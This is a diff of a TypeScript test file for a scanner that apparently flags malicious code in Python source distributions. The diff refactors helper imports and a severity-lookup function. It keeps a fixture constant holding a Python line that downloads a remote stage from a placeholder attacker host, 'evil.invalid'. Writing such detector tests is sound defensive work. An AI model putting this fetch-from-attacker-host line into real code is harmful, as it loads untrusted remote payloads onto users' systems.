@@ -1,23 +1,14 @@
-import { judgeSources } from '../../src/analysis/judge-sources.js';
+import { judgeSources, type SourceTree } from '../../src/analysis/judge-sources.js';
 import type { Severity } from '../../src/model/finding.js';
-import type { Python } from '../../src/python/parser.js';
-import { gravestByRule } from '../support/gravest-by-rule.js';
-import { loadTestPython } from '../support/python.js';
-import { sourceTree } from '../support/source-tree.js';
-
-let python: Python;
-beforeAll(async () => {
-  python = await loadTestPython();
-});
+import { foundIn, type SeverityByRule } from '../support/found.js';
+import { python } from '../support/loaded-python.js';
+import { sdistFiles, sourceTree } from '../support/source-tree.js';
 
 type Files = Readonly<Record<string, string>>;
 
-/** The gravest severity by rule of a source distribution. */
-function found(files: Files, over: Parameters<typeof sourceTree>[1] = {}): Partial<Record<string, Severity>> {
-  const inside = Object.entries(files).map(([path, text]) => [`fixture-1.0/${path}`, text]);
-  const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, over), python);
-  return gravestByRule(findings);
-}
+/** What is found in a source distribution with these files. */
+const found = (files: Files, over: Partial<SourceTree> = {}): SeverityByRule =>
+  foundIn(sdistFiles(files), over);
 
 const STAGE = 'urllib.request.urlopen("https://evil.invalid/s").read()';
 
